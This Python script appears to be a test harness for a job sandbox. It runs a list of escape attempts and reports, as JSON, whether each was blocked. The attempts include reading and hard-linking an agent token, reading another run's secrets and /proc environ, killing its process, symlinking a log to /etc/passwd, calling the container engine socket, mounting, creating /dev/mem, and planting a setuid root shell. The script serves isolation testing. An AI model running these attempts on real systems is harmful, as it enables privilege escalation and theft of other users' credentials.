"""A hostile job: tries to leave its run, and prints one line of JSON for each attempt.

    python hostile.py TARGETS

Standard library only, so that it runs in every runtime. TARGETS is JSON: what to attack, as far as the runtime has it.

    token           the agent's token file
    state           the agent's state directory
    other           the directory of another run's replica
    other_secret    a file with a secret of another run
    other_pid       a process of another run
    other_job_dir   another run's job-dir
    job_dir         the directory of this run in which it may leave something
    own_log         the log file of this replica
    environment     a file of this run's Python environment
    server          the address of the server
    engine          the socket of the container engine

A line has `attack`, `held` (whether the attack failed) and `outcome`, the error or what was reached. An attack whose
target is not given is left out. `facts` come last: user, groups, capabilities.
"""

import ctypes
import json
import os
import shutil
import signal
import socket
import stat
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

Targets = dict[str, str]
_AGENT_CALL = json.dumps({"agent": {}, "runs": []}).encode()


class Refused(Exception):
    """An attack that failed without an error of the system."""


def link_token(to: Targets) -> str:
    os.link(to["token"], Path(to["job_dir"]) / "token")
    return "a second name of the token file"


def signal_other(to: Targets) -> str:
    os.kill(int(to["other_pid"]), signal.SIGTERM)
    return "signalled"


def swap_own_log(to: Targets) -> str:
    link = Path(to["own_log"] + ".new")
    link.symlink_to("/etc/passwd")
    link.replace(to["own_log"])
    return "replaced by a link"


def call_agent_api(to: Targets) -> str:
    asked = urllib.request.Request(f"{to['server']}/agent/v1/sync", _AGENT_CALL, method="POST")
    try:
        with urllib.request.urlopen(asked, timeout=10) as answer:
            return f"answered with {answer.status}"
    except urllib.error.HTTPError as error:
        return refuse(f"HTTP status {error.code}") if error.code in (401, 403) else str(error)


def call_engine(to: Targets) -> str:
    with socket.socket(socket.AF_UNIX) as engine:
        engine.connect(to["engine"])
        engine.sendall(b"GET /version HTTP/1.0\r\n\r\n")
        return engine.recv(200).decode()


def become_root(to: Targets) -> str:
    """A user id of root that counts on the machine: in a container, root is root only of that."""
    if os.getuid() == 0:
        return refuse("root in the container from the start")
    os.setuid(0)
    return "root"


def mount(to: Targets) -> str:
    """Needs CAP_SYS_ADMIN."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", os.fsencode(to["job_dir"]), b"tmpfs", 0, None):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "mounted"


def make_device(to: Targets) -> str:
    """Needs CAP_MKNOD: the machine's memory."""
    os.mknod(Path(to["job_dir"]) / "mem", stat.S_IFCHR | 0o600, os.makedev(1, 1))
    return "made"


def leave_setuid_file(to: Targets) -> str:
    """A setuid file of root, by chown or because this is root. Left there for the test to look at."""
    shell = Path(to["job_dir"]) / "shell"
    shutil.copy("/bin/sh", shell)
    try:
        os.chown(shell, 0, 0)
    finally:
        shell.chmod(0o4755)
    owner = shell.stat()
    return "left" if owner.st_uid == 0 and owner.st_mode & stat.S_ISUID else refuse(f"of user {owner.st_uid}")


def gain_privileges(to: Targets) -> str:
    """No setuid program helps where no_new_privs is set."""
    return refuse("no_new_privs") if status("NoNewPrivs") == "1" else "a setuid program may raise rights"


def listing(path: str) -> str:
    return str(sorted(entry.name for entry in Path(path).iterdir()))


def content(path: str) -> str:
    return Path(path).read_bytes().decode() or refuse("no line of it")


def append(path: str) -> str:
    with Path(path).open("a") as file:
        file.write("# forged\n")
    return "written"


ATTACKS: dict[str, tuple[Callable[[Targets], str], tuple[str, ...]]] = {
    "read_token": (lambda to: content(to["token"]), ("token",)),
    "link_token": (link_token, ("token", "job_dir")),
    "list_state": (lambda to: listing(to["state"]), ("state",)),
    "read_state": (lambda to: content(f"{to['state']}/agent.json"), ("state",)),
    "write_state": (lambda to: append(f"{to['state']}/agent.json"), ("state",)),
    "list_runs": (lambda to: listing(f"{to['state']}/runs"), ("state",)),
    "list_other": (lambda to: listing(to["other"]), ("other",)),
    "read_other_log": (lambda to: content(f"{to['other']}/log.jsonl"), ("other",)),
    "read_other_launch": (lambda to: content(f"{to['other']}/launch.json"), ("other",)),
    "read_other_secret": (lambda to: content(to["other_secret"]), ("other_secret",)),
    "read_other_environment": (lambda to: content(f"/proc/{to['other_pid']}/environ"), ("other_pid",)),
    "read_other_memory": (lambda to: content(f"/proc/{to['other_pid']}/maps"), ("other_pid",)),
    "signal_other": (signal_other, ("other_pid",)),
    "read_other_job_dir": (lambda to: listing(to["other_job_dir"]), ("other_job_dir",)),
    "write_other_job_dir": (lambda to: append(f"{to['other_job_dir']}/model"), ("other_job_dir",)),
    "swap_own_log": (swap_own_log, ("own_log",)),
    "write_own_log": (lambda to: append(to["own_log"]), ("own_log",)),
    "change_environment": (lambda to: append(to["environment"]), ("environment",)),
    "call_agent_api": (call_agent_api, ("server",)),
    "call_engine": (call_engine, ("engine",)),
    "become_root": (become_root, ()),
    "mount": (mount, ("job_dir",)),
    "make_device": (make_device, ("job_dir",)),
    "leave_setuid_file": (leave_setuid_file, ("job_dir",)),
    "gain_privileges": (gain_privileges, ()),
}
"""Each attack, with the targets that it needs."""


def refuse(why: str) -> str:
    raise Refused(why)


def status(name: str) -> str:
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(line.partition(":")[2].strip() for line in lines if line.startswith(f"{name}:"))


def outcomes(to: Targets) -> Iterator[dict[str, object]]:
    for name, (attack, needs) in ATTACKS.items():
        if not all(target in to for target in needs):
            continue
        try:
            held, outcome = False, attack(to)
        except (OSError, Refused) as error:
            held, outcome = True, str(error) or type(error).__name__
        yield {"attack": name, "held": held, "outcome": outcome[:500]}


def main(targets: str) -> None:
    for line in outcomes(json.loads(targets)):
        print(json.dumps(line), flush=True)
    facts = {name: status(name) for name in ("Uid", "Gid", "Groups", "CapEff", "CapPrm", "CapAmb", "NoNewPrivs")}
    print(json.dumps({"facts": facts}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
